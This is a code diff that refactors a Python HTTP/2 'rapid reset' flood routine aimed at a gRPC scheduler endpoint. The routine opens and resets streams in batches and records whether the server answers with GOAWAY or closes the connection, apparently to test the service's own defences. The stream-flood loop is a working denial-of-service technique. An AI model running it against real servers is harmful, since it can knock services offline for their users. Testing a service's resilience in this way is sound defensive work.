@@ -52,13 +52,11 @@ def attack(host, port, streams, method="/hpsched.v1.SchedulerService/GetValues",
     headers = [(":method", "POST"), (":scheme", "http"), (":path", method), (":authority", f"{host}:{port}"),
                ("content-type", "application/grpc"), ("te", "trailers")]
     sent = 0
-    goaway = None
-    closed = False
-    server_resets = 0
+    seen = {"goaway": None, "closed": False, "server_resets": 0}
     end = time.monotonic() + deadline_s
     sock.setblocking(False)
     pending = b""
-    while sent < streams and not closed and time.monotonic() < end:
+    while sent < streams and not seen["closed"] and time.monotonic() < end:
         # A batch of open+reset pairs, then whatever the server said.
         for _ in range(min(500, streams - sent)):
             stream_id = conn.get_next_available_stream_id()
@@ -72,22 +70,8 @@ def attack(host, port, streams, method="/hpsched.v1.SchedulerService/GetValues",
         while pending and time.monotonic() < end:
             readable, writable, _ = select.select([sock], [sock], [], 1.0)
             if readable:
-                try:
-                    data = sock.recv(1 << 20)
-                except (ConnectionResetError, BrokenPipeError):
-                    closed = True
+                if not receive(sock, conn, seen):
                     break
-                if not data:
-                    closed = True
-                    break
-                try:
-                    for event in conn.receive_data(data):
-                        if isinstance(event, h2.events.ConnectionTerminated):
-                            goaway = {"error_code": int(event.error_code), "last_stream_id": event.last_stream_id}
-                        elif isinstance(event, h2.events.StreamReset):
-                            server_resets += 1
-                except h2.exceptions.ProtocolError:
-                    pass
                 pending += conn.data_to_send()
             if writable and pending:
                 try:
@@ -96,36 +80,41 @@ def attack(host, port, streams, method="/hpsched.v1.SchedulerService/GetValues",
                 except BlockingIOError:
                     pass
                 except (ConnectionResetError, BrokenPipeError):
-                    closed = True
+                    seen["closed"] = True
                     break
-        if goaway is not None:
+        if seen["goaway"] is not None:
             break
     # Every stream is written; the server may still be working through them (on a loaded machine it lags the
     # attacker by thousands of streams). Wait, bounded, for what it decides about this connection rather than
     # leaving before it could: a closed socket or a GOAWAY, or silence until drain_s.
     drain_end = min(end, time.monotonic() + drain_s)
-    while not closed and goaway is None and time.monotonic() < drain_end:
+    while not seen["closed"] and seen["goaway"] is None and time.monotonic() < drain_end:
         readable, _, _ = select.select([sock], [], [], 0.5)
-        if not readable:
-            continue
-        try:
-            data = sock.recv(1 << 20)
-        except (ConnectionResetError, BrokenPipeError):
-            closed = True
+        if readable and not receive(sock, conn, seen):
             break
-        if not data:
-            closed = True
-            break
-        try:
-            for event in conn.receive_data(data):
-                if isinstance(event, h2.events.ConnectionTerminated):
-                    goaway = {"error_code": int(event.error_code), "last_stream_id": event.last_stream_id}
-                elif isinstance(event, h2.events.StreamReset):
-                    server_resets += 1
-        except h2.exceptions.ProtocolError:
-            pass
     sock.close()
-    return {"streams_sent": sent, "goaway": goaway, "server_closed": closed, "server_resets": server_resets}
+    return {"streams_sent": sent, "goaway": seen["goaway"], "server_closed": seen["closed"],
+            "server_resets": seen["server_resets"]}
+
+
+def receive(sock, conn, seen):
+    """Reads what the server sent into `seen` (a GOAWAY, stream resets); False once the server closed the socket."""
+    try:
+        data = sock.recv(1 << 20)
+    except (ConnectionResetError, BrokenPipeError):
+        data = b""
+    if not data:
+        seen["closed"] = True
+        return False
+    try:
+        for event in conn.receive_data(data):
+            if isinstance(event, h2.events.ConnectionTerminated):
+                seen["goaway"] = {"error_code": int(event.error_code), "last_stream_id": event.last_stream_id}
+            elif isinstance(event, h2.events.StreamReset):
+                seen["server_resets"] += 1
+    except h2.exceptions.ProtocolError:
+        pass
+    return True
 
 
 class Observer:
